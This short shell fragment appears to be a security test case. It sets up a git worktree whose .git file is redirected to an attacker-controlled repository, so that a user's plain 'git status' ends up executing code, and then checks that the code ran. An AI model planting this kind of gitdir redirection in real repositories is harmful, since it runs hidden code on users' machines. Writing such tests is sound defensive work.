# The `.git` file of the session's own worktree points to a repository of the attacker.
attack() {
    git worktree add -q -b own "$W/own"
    evil_common "$W/own/.evil"
    echo "gitdir: $W/own/.evil" >"$W/own/.git"
}
human() {
    git -C "$W/own" status
}
harmed() {
    executed
}
